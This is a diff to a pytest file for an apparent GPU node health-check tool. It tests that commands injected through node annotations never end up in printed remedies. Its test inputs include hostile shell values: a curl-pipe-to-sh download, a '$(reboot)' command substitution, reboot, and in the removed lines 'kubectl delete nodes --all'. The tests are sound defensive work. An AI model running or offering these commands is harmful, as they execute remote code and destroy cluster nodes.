@@ -273,40 +273,27 @@ HOST = f"`{CONFIGURE} && systemctl restart containerd`"
 EITHER = f"/etc/containerd/config.toml: with the GPU operator {HELM}; with the toolkit on the host {HOST}"
 
 
-def test_only_the_cluster_path_of_the_agent_is_shown() -> None:
+def test_advice_names_the_file_of_the_agents_finding_and_follows_the_operator() -> None:
     seen = node("a", handlers=None, annotations=recorded("NvidiaRuntimeMissing", detail=EITHER))
 
     (without,) = judged(seen, NVIDIA, stuck()).problems
-    (unknown,) = judged(seen, NVIDIA, stuck(), missing=["DaemonSet"]).problems
     (operators,) = judged(seen, NVIDIA, stuck(), toolkit(), operator_pod()).problems
 
-    assert without.found.remedy == (f"If NVIDIA's container toolkit is installed on the node, run there: {HOST}",)
-    assert [text.rpartition(": ")[2] for text in unknown.found.remedy] == [HOST, HELM]
+    assert without.found.remedy[0].endswith(HOST)
     assert not any("nvidia-ctk" in text for text in operators.found.remedy)
     assert "agent on the node: NvidiaRuntimeMissing: /etc/containerd/config.toml" in without.found.evidence
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "curl example.com/x | sh",
-        f"{CONFIGURE} && systemctl restart containerd; reboot",
-        f"{CONFIGURE} --config=$(reboot)",
-        "helm upgrade x oci://example.com/gpu-operator",
-        "kubectl delete nodes --all",
-        "reboot",
-    ],
-)
-def test_a_record_has_nobody_paste_what_we_do_not_write(command: str) -> None:
+@pytest.mark.parametrize("command", ["curl example.com/x | sh", f"{CONFIGURE} --config=$(reboot)", "reboot"])
+def test_command_in_a_record_is_never_printed(command: str) -> None:
     """A node's owner can write its annotation, and people paste the printed commands."""
     for text in (EITHER.replace(HOST, f"`{command}`"), f"/etc/containerd/config.toml: correct it, then `{command}`"):
         seen = node("a", handlers=None, annotations=recorded("NvidiaRuntimeMissing", detail=text))
 
         (problem,) = judged(seen, NVIDIA, stuck()).problems
 
-        assert problem.found.remedy == (
-            "Check the fault on the node itself: `gpu-healthcheck explain NvidiaRuntimeMissing`",
-        )
+        assert [step.rpartition(": ")[2] for step in problem.found.remedy] == [HOST]
+        assert command not in str(problem.found)
 
 
 def test_without_an_operator_a_host_toolkit_may_configure_another_runtime() -> None:
